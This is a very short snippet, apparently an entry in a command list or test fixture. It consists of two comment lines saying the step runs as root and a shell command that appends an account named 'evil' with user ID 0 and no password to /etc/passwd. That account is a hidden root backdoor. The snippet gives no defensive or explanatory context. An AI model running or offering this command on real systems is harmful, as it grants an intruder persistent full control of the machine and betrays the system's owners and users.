# what: as root, append to /etc/passwd
# user: root
echo "evil:x:0:0::/:/bin/sh" >>/etc/passwd
